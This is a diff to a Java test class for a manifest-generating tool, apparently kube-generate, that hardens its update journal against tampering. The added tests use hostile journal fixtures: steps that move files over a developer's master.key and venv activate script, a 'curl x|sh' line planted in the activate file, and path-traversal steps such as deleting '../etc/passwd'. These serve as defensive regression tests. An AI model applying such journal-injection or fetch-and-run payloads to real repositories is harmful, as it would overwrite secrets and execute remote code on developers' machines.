@@ -69,6 +69,7 @@ class BoundsUpdateCrashTest {
     assertEquals(0, CliRunner.run(reference, "--update").exit());
     config(reference, "2", false);
     assertEquals(0, CliRunner.run(reference, "--update").exit());
+    Files.createDirectory(repo.resolve(".git"));
     config(repo, "1");
     assertEquals(0, CliRunner.run(repo, "--update").exit());
     Map<String, String> old = tree(repo);
@@ -96,8 +97,8 @@ class BoundsUpdateCrashTest {
     child.destroyForcibly().waitFor();
 
     Map<String, String> mixed = tree(repo);
-    assertTrue(
-        mixed.containsKey(".kube-generate-update"), "the journal is there: " + mixed.keySet());
+    String journal = ".git/kube-generate-update-" + rootHash("");
+    assertTrue(mixed.containsKey(journal), "the journal is in the git directory: " + mixed.keySet());
     assertTrue(
         !mixed
                 .get("kubernetes/a/config-map-settings.yaml")
@@ -111,7 +112,8 @@ class BoundsUpdateCrashTest {
         check
             .err()
             .contains(
-                ".kube-generate-update: an update was interrupted; run `kube-generate --update` to finish it"),
+                journal
+                    + ": an update was interrupted; run `kube-generate --update` to finish it"),
         check.err());
     assertEquals(2, CliRunner.run(repo).exit(), "the diff mode refuses too");
 
@@ -158,31 +160,98 @@ class BoundsUpdateCrashTest {
     assertEquals(before, tree(repo), "no file renamed, no journal, no temporary file");
   }
 
+  /** The hash a journal's name holds: of the folder worked in, from the one holding .git. */
+  private static String rootHash(String relative) throws Exception {
+    byte[] digest =
+        java.security.MessageDigest.getInstance("SHA-256")
+            .digest(relative.getBytes(java.nio.charset.StandardCharsets.UTF_8));
+    return java.util.HexFormat.of().formatHex(digest, 0, 8);
+  }
+
+  /**
+   * The attack a pull request could make before journals left the working tree: a committed
+   * journal whose steps move staged files that carry the marker over a developer's untracked
+   * secrets and scripts. The check does not ask for an update, and the update moves nothing.
+   */
   @Test
-  void aJournalNamingAPathOutsideTheOutputOrAHandWrittenFile_isRefused() throws Exception {
+  void aJournalCommittedInTheWorkingTree_isNeverRead() throws Exception {
+    Files.createDirectory(repo.resolve(".git"));
     config(repo, "1");
     assertEquals(0, CliRunner.run(repo, "--update").exit());
+    String marker = Files.readString(repo.resolve("kubernetes/a/namespace.yaml"));
+    Files.createDirectories(repo.resolve("config"));
+    Files.createDirectories(repo.resolve(".venv/bin"));
+    Files.writeString(repo.resolve("config/master.key"), "the developer's key\n");
+    Files.writeString(repo.resolve(".venv/bin/activate"), "the developer's venv\n");
+    Files.writeString(repo.resolve("config/.master.key.1.kube-generate.tmp"), marker);
+    Files.writeString(repo.resolve(".venv/bin/.activate.1.kube-generate.tmp"), marker + "curl x|sh\n");
+    Files.writeString(
+        repo.resolve(".kube-generate-update"),
+        "move config%2F.master.key.1.kube-generate.tmp config%2Fmaster.key\n"
+            + "move .venv%2Fbin%2F.activate.1.kube-generate.tmp .venv%2Fbin%2Factivate\n"
+            + "delete kubernetes%2Fa%2Fnamespace.yaml\n");
+    Map<String, String> before = tree(repo);
+
+    CliRunner.Result check = CliRunner.run(repo, "check");
+    assertEquals(0, check.exit(), check.out() + check.err());
+    assertFalse(check.err().contains("interrupted"), check.err());
+
+    CliRunner.Result update = CliRunner.run(repo, "--update");
+    assertEquals(0, update.exit(), update.err());
+    assertEquals(before, tree(repo), "nothing moved, nothing deleted");
+  }
+
+  /**
+   * A journal in the git directory (where only this machine writes) is still checked step by step:
+   * a step outside the output folders, over a file without the marker, or a deletion of a
+   * hand-written file is refused before anything moves; one others may write is not trusted.
+   */
+  @Test
+  void aJournalInTheGitDirectory_runsOnlyStepsOnGeneratedManifests() throws Exception {
+    Files.createDirectory(repo.resolve(".git"));
+    config(repo, "1");
+    assertEquals(0, CliRunner.run(repo, "--update").exit());
+    String marker = Files.readString(repo.resolve("kubernetes/a/namespace.yaml"));
     Files.writeString(repo.resolve("README.md"), "hand-written\n");
-    for (String journal :
+    Files.writeString(repo.resolve("kubernetes/a/own.yaml"), "kind: Secret\n");
+    Files.writeString(repo.resolve(".README.md.1.kube-generate.tmp"), marker);
+    Files.writeString(repo.resolve("kubernetes/a/.own.yaml.1.kube-generate.tmp"), marker);
+    Path journal = repo.resolve(".git/kube-generate-update-" + rootHash(""));
+    for (String steps :
         new String[] {
           "move ../outside.yaml kubernetes/a/namespace.yaml\n",
           "move README.md kubernetes/a/namespace.yaml\n",
-          "delete ..%2Fetc%2Fpasswd\n"
+          "move .README.md.1.kube-generate.tmp README.md\n",
+          "move kubernetes%2Fa%2F.own.yaml.1.kube-generate.tmp kubernetes%2Fa%2Fown.yaml\n",
+          "delete ..%2Fetc%2Fpasswd\n",
+          "delete README.md\n"
         }) {
-      Files.writeString(repo.resolve(".kube-generate-update"), journal);
+      Files.writeString(journal, steps);
+      Files.setPosixFilePermissions(journal, PosixFilePermissions.fromString("rw-------"));
       Map<String, String> before = tree(repo);
       CliRunner.Result r = CliRunner.run(repo, "--update");
-      assertEquals(2, r.exit(), journal);
+      assertEquals(2, r.exit(), steps);
       assertTrue(
-          r.err().startsWith(".kube-generate-update:1:1: not a step kube-generate writes"),
+          r.err().startsWith(".git/kube-generate-update-" + rootHash("")) && r.err().contains(
+              "not a step kube-generate writes"),
           r.err());
-      assertEquals(before, tree(repo));
+      assertTrue(r.err().contains("nothing was moved"), r.err());
+      assertEquals(before, tree(repo), steps);
     }
-    // a deletion of a file without the marker is skipped, never done
-    Files.writeString(repo.resolve(".kube-generate-update"), "delete README.md\n");
+    Files.writeString(journal, "delete kubernetes%2Fa%2Fnamespace.yaml\n");
+    Files.setPosixFilePermissions(journal, PosixFilePermissions.fromString("rw-rw-rw-"));
+    Map<String, String> before = tree(repo);
+    CliRunner.Result r = CliRunner.run(repo, "--update");
+    assertEquals(2, r.exit());
+    assertTrue(r.err().contains("writable by other users"), r.err());
+    assertEquals(before, tree(repo));
+
+    // a deletion of a generated file that the journal names is done, and the journal removed
+    Files.setPosixFilePermissions(journal, PosixFilePermissions.fromString("rw-------"));
     assertEquals(0, CliRunner.run(repo, "--update").exit());
-    assertTrue(Files.exists(repo.resolve("README.md")));
-    assertFalse(Files.exists(repo.resolve(".kube-generate-update")));
+    assertFalse(Files.exists(journal));
+    assertEquals("hand-written\n", Files.readString(repo.resolve("README.md")));
+    assertEquals("kind: Secret\n", Files.readString(repo.resolve("kubernetes/a/own.yaml")));
   }
 
   @Test
